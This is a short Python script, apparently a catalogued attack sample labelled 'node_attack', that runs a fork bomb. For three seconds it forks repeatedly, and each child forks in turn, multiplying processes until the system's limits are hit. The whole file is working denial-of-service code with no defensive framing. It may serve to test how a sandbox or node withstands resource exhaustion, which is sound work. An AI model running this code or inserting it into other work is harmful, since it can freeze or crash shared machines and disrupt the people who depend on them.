# class: node_attack
# does: a fork bomb that starts nothing
# source: own
# repo: any
# when: last
import os, time
end = time.time() + 3
while time.time() < end:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
